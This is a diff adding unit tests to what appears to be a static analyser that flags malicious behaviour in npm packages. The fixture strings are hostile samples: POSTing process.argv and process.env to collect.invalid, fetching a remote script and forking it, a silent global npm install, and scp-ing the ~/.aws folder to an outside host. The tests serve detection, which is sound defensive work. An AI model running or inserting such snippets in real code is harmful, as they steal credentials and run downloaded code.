@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
 import { packageOf } from '../../../../support/artifacts.js';
-import { flowsOf } from './sent.js';
+import { behavioursOf, flowsOf } from './sent.js';
 
 const SENT = 'credential-file>command-argument@collect.invalid';
 
@@ -156,6 +156,48 @@ describe('commands', () => {
       `cp.execFileSync('powershell.exe', ['-Command', "Expand-Archive '/opt/x/tool.zip' -DestinationPath '/opt/y'; /opt/y/run.ps1"]);`,
     ])
       assert.notDeepEqual(flowsOf(fetched(running)).filter(isRunning), [], running);
+  });
+
+  it('find what stands behind their name in process.argv', () => {
+    const send = `'fetch("https://collect.invalid", { method: "POST", body: process.argv[1] })'`;
+    assert.ok(
+      flowsOf(`cp.spawn(process.execPath, ['-e', ${send}, s], { detached: true });`).includes(
+        'credential-file>network@collect.invalid',
+      ),
+    );
+    assert.deepEqual(flowsOf(`cp.spawn(process.execPath, ['-e', ${send}, '--version']);`), []);
+  });
+
+  it('are a script where a file is forked, with what is loaded before it', () => {
+    const fetched = (then: string) =>
+      flowsOf(
+        `fetch('https://load.invalid/a').then((r) => r.text()).then((t) => { fs.writeFileSync(os.tmpdir() + '/a.js', t); ${then} });`,
+      );
+    assert.deepEqual(fetched(`cp.fork(os.tmpdir() + '/a.js');`), ['downloaded>run-as-command']);
+    assert.deepEqual(fetched(`cp.fork(os.tmpdir() + '/b.js');`), []);
+    const preloaded = (flags: string) =>
+      analysePackage(
+        packageOf({
+          'index.js': `require('child_process').fork('./ok.js', [], { execArgv: ${flags} });`,
+          'ok.js': '',
+          'spy.js': `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`,
+        }),
+      ).flows.map(({ source, moment }) => `${source} ${moment}`);
+    assert.deepEqual(preloaded(`['--require', './spy.js']`), ['environment import']);
+    assert.deepEqual(preloaded(`['--no-warnings']`), ['environment call']);
+  });
+
+  it('are npm by whatever name it has on a system', () => {
+    const installs = (program: string) =>
+      behavioursOf(`cp.spawn(${program}, ['i', '-g', 'claw-helper'], { stdio: 'ignore' });`);
+    assert.deepEqual(installs(`process.platform === 'win32' ? 'npm.cmd' : 'npm'`), ['installs-globally import']);
+    assert.deepEqual(installs(`process.platform === 'win32' ? 'tool.cmd' : 'tool'`), []);
+  });
+
+  it('copy files to other machines by their names', () => {
+    const copied = flowsOf(`cp.spawn('scp', ['-r', os.homedir() + '/.aws', 'u@collect.invalid:/in']);`);
+    assert.deepEqual([...new Set(copied)], ['credential-file>command-argument']);
+    assert.deepEqual(flowsOf(`cp.spawn('scp', ['-r', 'dist', 'deploy@web.example:/srv']);`), []);
   });
 });
 
